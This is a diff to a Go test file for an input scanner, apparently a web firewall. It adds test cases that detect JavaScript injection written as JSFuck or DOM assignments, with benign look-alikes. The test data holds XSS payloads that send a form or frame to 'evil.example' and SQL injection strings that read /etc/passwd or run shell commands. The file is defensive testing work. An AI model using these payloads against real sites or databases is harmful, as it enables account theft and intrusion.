@@ -157,6 +157,20 @@ func langCases() []langCase {
 	for _, b := range []string{"mail me @{domain}", "@{user}", "@[mention] thanks", "@{ }", "@{[ ]}", "@{[]}", "cc @team [urgent]"} {
 		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
 	}
+	// JavaScript without tags: a whole value that is one JSFuck
+	// expression (+ written as + or as a form-decoded space); one
+	// assignment to a DOM property through a browser global.
+	for _, p := range []string{"!![]", "+!![]", " !![]", "+[]+[]", "(![]+[])[+[]]", "[][(![]+[])[+[]]]", "[][(![] [])[ []]] ([![]] [][[]])[ ! [] [ []]]", "!+[]+!+[]", "[[]][+[]]+!![]"} {
+		out = append(out, langCase{KindQueryValue, "a", p, "xss-js-expression"}, langCase{KindBodyValue, "a", p, "xss-js-expression"})
+	}
+	for _, p := range []string{`document.querySelector("p").textContent="XSS"`, "document.body.innerHTML='<b>x</b>'", "window.frames[0].location.href='//evil.example'", "document.getElementById('x').outerHTML +='y'",
+		"top.document.cookie=1", "document.body.innerHTML=name;", "document.body.innerHTML=atob('PGI+');", `document.body.innerHTML = "<img src=x onerror=alert(1)>";`, "document.forms[0].action='//evil.example/'", "self.document.images[0].src = 'x'"} {
+		out = append(out, langCase{KindQueryValue, "foo", p, "xss-js-expression"}, langCase{KindBodyValue, "foo", p, "xss-js-expression"})
+	}
+	for _, b := range []string{"![]()", "[ ] [ ]", "[] []", "[]", "()", "+[]", "!!", "[x]!!", "( ! )", "[[]]", "((()))", "!(a)",
+		"document.title = My page", `document.getElementById("demo").innerHTML = "Hello JavaScript!";`, "document.body.textContent = 'Saved';", "document.body.textContent == x", "Set document.cookie = in the console", "the document.querySelector(p).innerHTML property", "self.href=x"} {
+		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
+	}
 	// PostgreSQL file and large-object access.
 	for _, p := range []string{"lo_import('/etc/passwd')", "1;select lo_get(16400)", "pg_read_file('/etc/passwd')", "';copy t from program 'id'--"} {
 		out = append(out, langCase{KindQueryValue, "id", p, "sqli-function"})
@@ -230,7 +244,7 @@ func checkGrammarCases(t *testing.T, cases []langCase) {
 // FuzzLangParsers: the hand-written scanners of the language grammars
 // must not panic and keep their output invariants on any input.
 func FuzzLangParsers(f *testing.F) {
-	for _, s := range []string{"$_aB_4c #foo\r\n\t[5]//bar\r\n\t['d'] /*foo*/ (17)", "$a //x\n()", "'#' /* \"x */ y", "/*", "#", "'", `"a\"b"`, "$A\tB  C", "!-1!-2", "!!:s/a/b/", "!!:gs", "!1:2-", "!$:"} {
+	for _, s := range []string{"$_aB_4c #foo\r\n\t[5]//bar\r\n\t['d'] /*foo*/ (17)", "$a //x\n()", "'#' /* \"x */ y", "/*", "#", "'", `"a\"b"`, "$A\tB  C", "!-1!-2", "!!:s/a/b/", "!!:gs", "!1:2-", "!$:", "+!![]", "[][(![] [])[ []]]", "((((", "[(])"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, s string) {
@@ -243,5 +257,8 @@ func FuzzLangParsers(f *testing.F) {
 		}
 		phpVarCall(s)
 		historyExpansion(s)
+		if jsfuckValue(s) && strings.Trim(s, "[]()!+ ") != "" {
+			t.Fatalf("jsfuckValue(%q) outside the alphabet", s)
+		}
 	})
 }
